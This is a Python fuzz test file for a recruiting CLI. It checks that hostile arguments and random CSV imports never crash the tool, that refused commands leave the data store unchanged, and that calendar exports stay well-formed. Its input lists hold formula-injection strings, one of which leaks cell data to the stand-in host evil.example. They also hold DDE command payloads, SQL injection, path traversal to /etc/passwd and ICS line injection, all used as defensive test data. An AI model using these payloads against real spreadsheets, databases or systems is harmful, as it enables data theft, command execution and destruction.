"""Hostile input: random and malicious arguments to every command, random CSV files to import.
Never a traceback; exit codes as documented (0 done, 1 refused, 2 usage); a refused command
leaves the store as it was; text from outside is written back out safely."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner, Result
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from outreach.cli.app import cli
from outreach.engine import Engine

NOW = datetime(2026, 3, 6, 11, 0, tzinfo=UTC)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "'; DROP TABLE stored_events; --",
    "ada' OR '1'='1",
    "Robert'); DELETE FROM outreach_relationships;--",
    "\x00",
    "\x1b[2J\x1b[31mred",
    "\u202egnp.exe",
    "line\nBEGIN:VEVENT\nSUMMARY:injected\nEND:VEVENT",
    "tab\there",
    "../../../../etc/passwd",
    "x" * 5000,
    "9" * 400,
    "2026-02-30",
    "2026-03-06T25:00",
    "1970-01-01T00:00:00+14:00",
    "9999-12-31",
    "nan",
    "-1",
    "0",
    "",
    " ",
    "ada",
    "ADA ",
    "zoë",
    "Europe/Nowhere",
    "%s%s%n",
    "{p}keys",
    "--",
    "-",
]
# Options that name files or stores are left out: as root, a random path may be anywhere.
UNSAFE = {"--db", "--settings", "-o", "--output", "--help", "-h", "--version"}


PLAUSIBLE = ["ada", "bob", "2026-03-01", "2026-03-05T10:00", "python", "Europe/Paris", "3"]


def commands(group: click.Group, path: tuple[str, ...] = ()) -> Iterator[tuple[Any, ...]]:
    for name, command in sorted(group.commands.items()):
        if isinstance(command, click.Group):
            yield from commands(command, (*path, name))
        elif name != "demo":  # the demo writes a sample store of its own
            yield (*path, name), command


COMMANDS = list(commands(cli))  # type: ignore[arg-type]
words = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=30))


def values(param: click.Parameter) -> st.SearchStrategy[str]:
    """Mostly what the parameter expects, often something hostile."""
    expected = getattr(param.type, "choices", None) or PLAUSIBLE
    return st.one_of(st.sampled_from(list(expected)), words)


@st.composite
def invocations(draw: Any) -> list[str]:
    """A command with its arguments and options, each value expected or hostile, and now and
    then something thrown in anywhere."""
    path, command = draw(st.sampled_from(COMMANDS))
    args: list[str] = []
    for param in command.params:
        if isinstance(param, click.Argument) and (param.required or draw(st.booleans())):
            args.append(draw(values(param)))
        elif (
            isinstance(param, click.Option)
            and not UNSAFE & set(param.opts)
            and draw(st.integers(0, 9)) < (8 if param.required else 3)
        ):
            value = [] if param.is_flag else [draw(values(param))]
            args += [param.opts[0], *value]
    for junk in draw(st.lists(words, max_size=1)) if draw(st.integers(0, 2)) == 0 else []:
        args.insert(draw(st.integers(0, len(args))), junk)
    return [*path, *args]


class Store:
    """A small store the hostile commands run against, and its state to compare."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.url = f"sqlite:///{root / 'store.db'}"
        with Engine.open(self.url, recruiter="sam", clock=lambda: NOW) as engine:
            engine.add("ada", name="Ada Lovelace", skills=["python"], tz="Europe/London")
            engine.record("ada", "met", where="PyCon", would_hire=True)
            engine.add("bob", name="Bob Page", email="bob@example.org")
            engine.record("bob", "declined-busy")

    def state(self) -> tuple[int, list[str]]:
        with Engine.open(self.url, recruiter="sam", clock=lambda: NOW) as engine:
            return engine.event_count(), sorted(engine.handles())

    def run(self, argv: list[str]) -> Result:
        env = {
            "OUTREACH_DB": self.url,
            "OUTREACH_RECRUITER": "sam",
            "OUTREACH_TZ": "UTC",
            "OUTREACH_SETTINGS": None,
            "OUTREACH_DEBUG": None,
            "OUTREACH_KEY": None,
            "OUTREACH_KEY_FILE": None,
            "XDG_CONFIG_HOME": str(self.root / "config"),
        }
        return CliRunner().invoke(cli, ["--now", NOW.isoformat(), *argv], env=env)


def known_bug(result: Result) -> bool:
    """A time zone naming a folder of the tz database ('Europe') crashes domain.values
    (pinned by test_a_time_zone_naming_a_region_is_refused_for_people): not counted twice."""
    return "IsADirectoryError" in result.stderr


def assert_handled(result: Result) -> None:
    """Exit 0, 1 or 2 with one line for people: no traceback, no 'unexpected failure'."""
    assume(not known_bug(result))
    output = result.stdout + result.stderr
    assert result.exit_code in (0, 1, 2), output
    assert isinstance(result.exception, SystemExit | None), repr(result.exception)
    assert "Traceback" not in output
    assert "unexpected failure" not in output, output


@pytest.fixture
def store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Store:
    monkeypatch.chdir(tmp_path)  # whatever a command writes stays in here
    return Store(tmp_path)


@settings(
    max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(argv=invocations())
def test_hostile_arguments_never_crash_and_refusals_change_nothing(
    store: Store, argv: list[str], figures: Any
) -> None:
    # A NUL byte in a file name is pinned by the test below (a bug of the import command).
    assume(not (argv[0] == "import" and any("\x00" in a for a in argv)))
    before = store.state()
    result = store.run(argv)
    assert_handled(result)
    if result.exit_code != 0 and argv[0] != "import":
        assert store.state() == before, (argv, result.stderr)
    tally(figures, "invocations", f"exit_{result.exit_code}")


SEEN: dict[str, dict[str, int]] = {}


def tally(figures: Any, what: str, outcome: str) -> None:
    """Count the inputs tried and how each ended, for RELIABILITY.md."""
    counts = SEEN.setdefault(what, {})
    counts["tried"] = counts.get("tried", 0) + 1
    counts[outcome] = counts.get(outcome, 0) + 1
    figures(**{what: dict(counts)})


@pytest.mark.xfail(
    strict=True,
    reason="found here: ZoneInfo('Europe') raises IsADirectoryError, uncaught in domain.values",
)
def test_a_time_zone_naming_a_region_is_refused_for_people(store: Store) -> None:
    result = store.run(["add", "zed", "--name", "Zed", "--tz", "Europe"])
    assert result.exit_code == 1, result.stderr
    assert "unexpected failure" not in result.stderr


@pytest.mark.xfail(
    strict=True,
    reason="found here: click.Path lets os.stat raise ValueError on a NUL byte (cli/importing.py)",
)
def test_a_file_name_with_a_nul_byte_is_refused_for_people(store: Store) -> None:
    result = store.run(["import", "bad\x00name.csv"])
    assert result.exit_code == 2, result.stderr
    assert_handled(result)


COLUMNS = ["handle", "name", "email", "phone", "company", "title", "skills", "tz", "source"]
COLUMNS += ["added_on", "candidacy", "candidacy_on", "candidacy_role", "met_where", "met_on"]
COLUMNS += ["would_hire"]
LINKEDIN = ["First Name", "Last Name", "URL", "Email Address", "Company", "Position"]
ENCODINGS = ["utf-8"] * 6 + ["utf-8-sig", "latin-1", "utf-16", "cp1252"]
NAMES = ["Ada Lovelace", "José Núñez", "Zoë O'Brien", *HOSTILE[:7], HOSTILE[10]]
EXPECTED = {
    "handle": ["ada-l", "bob.p", "zoe_o"],
    "name": NAMES,
    "First Name": NAMES,
    "Last Name": ["Lovelace", "=1+1", "Núñez"],
    "URL": ["https://www.linkedin.com/in/ada-lovelace-123/", "javascript:alert(1)"],
    "email": ["ada@example.org", '=HYPERLINK("mailto:x")'],
    "skills": ["python;rust", "sql; =cmd"],
    "tz": ["Europe/Paris", "UTC"],
    "source": ["met", "import", "past"],
    "added_on": ["2026-01-05", "06 Mar 2026"],
    "Connected On": ["06 Mar 2026", "2026-02-01"],
    "candidacy": ["placed", "interviewed"],
    "candidacy_on": ["2025-01-01"],
    "met_where": ["PyCon", '=HYPERLINK("http://evil.example")'],
    "met_on": ["2026-02-02"],
    "would_hire": ["yes", "no"],
}


def cell(text: str) -> str:
    """A CSV cell, quoted as a spreadsheet would (quotes doubled)."""
    return '"' + text.replace('"', '""') + '"'


def cells(column: str) -> st.SearchStrategy[str]:
    """Mostly what the column expects (new people each time), one time in ten anything."""
    if column in ("name", "First Name"):
        expected = st.builds("{} {}".format, st.sampled_from(NAMES), st.integers(0, 10**9))
    elif column == "handle":
        expected = st.from_regex(r"[a-z][a-z0-9-]{2,30}", fullmatch=True)
    else:
        expected = st.sampled_from(EXPECTED.get(column, PLAUSIBLE))
    return st.integers(0, 9).flatmap(lambda n: words if n == 0 else expected)


@st.composite
def csv_files(draw: Any) -> bytes:
    """A generic or LinkedIn CSV, or one with a header of anything, in some encoding, with
    hostile cells; now and then plain random bytes."""
    if draw(st.integers(0, 9)) == 0:
        return bytes(draw(st.binary(max_size=300)))
    kind = draw(st.sampled_from(["generic", "linkedin", "junk"]))
    if kind == "generic":
        header = ["name", *draw(st.lists(st.sampled_from(COLUMNS), max_size=6, unique=True))]
    elif kind == "linkedin":
        header = [*LINKEDIN, "Connected On"]
    else:
        header = draw(st.lists(words, min_size=1, max_size=4))
    row = st.tuples(*(cells(column) for column in header))
    rows = [list(r) + draw(st.lists(words, max_size=1)) for r in draw(st.lists(row, max_size=5))]
    text = "\r\n".join(",".join(cell(c) for c in row) for row in [header, *rows]) + "\r\n"
    return text.encode(draw(st.sampled_from(ENCODINGS)), errors="replace")


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(data=csv_files())
def test_random_csv_files_import_or_are_refused_cleanly(
    store: Store, data: bytes, figures: Any
) -> None:
    path = store.root / "people.csv"
    path.write_bytes(data)
    before = store.state()
    checked = store.run(["import", str(path), "--dry-run"])
    assert_handled(checked)
    assert store.state() == before  # a dry run writes nothing
    imported = store.run(["import", str(path)])
    assert_handled(imported)
    assert imported.exit_code in (0, 1)
    after = store.state()
    again = store.run(["import", str(path)])
    assert_handled(again)
    assert store.state() == after  # importing the same file twice adds nothing
    exported = store.run(["export", "ics", "-o", str(store.root / "out.ics")])
    assert_handled(exported)
    assert exported.exit_code == 0, exported.stderr
    assert_calendar_is_well_formed((store.root / "out.ics").read_bytes())
    added = after[0] > before[0]
    tally(figures, "csv_files", f"exit_{imported.exit_code}" + ("_added" if added else ""))


def assert_calendar_is_well_formed(data: bytes) -> None:
    """Text from outside (names, notes) cannot break out of its property: every unfolded
    line is one property, and the components are exactly those the file declares."""
    from icalendar import Calendar

    text = data.decode("utf-8")
    assert "\r\n" in text
    lines = text.replace("\r\n ", "").replace("\r\n\t", "").split("\r\n")
    assert all(line == "" or ":" in line for line in lines)
    assert all("\n" not in line and "\r" not in line for line in lines)
    calendar = Calendar.from_ical(data)
    parsed = [c.name for c in calendar.walk() if c.name in ("VEVENT", "VTODO")]
    declared = [line[len("BEGIN:") :] for line in lines if line in ("BEGIN:VEVENT", "BEGIN:VTODO")]
    assert parsed == declared


def test_hostile_names_are_escaped_in_the_calendar(store: Store) -> None:
    nasty = "Eve\nBEGIN:VEVENT\nSUMMARY:injected; x=y, z\\"
    with Engine.open(store.url, recruiter="sam", clock=lambda: NOW) as engine:
        engine.add("eve", name=nasty, email='=HYPERLINK("http://evil.example")')
    result = store.run(["export", "ics", "-o", str(store.root / "out.ics")])
    assert result.exit_code == 0, result.stderr
    data = (store.root / "out.ics").read_bytes()
    assert_calendar_is_well_formed(data)
    from icalendar import Calendar

    summaries = [str(c["summary"]) for c in Calendar.from_ical(data).walk() if "summary" in c]
    assert any(nasty in s for s in summaries)  # the name comes back exactly as typed
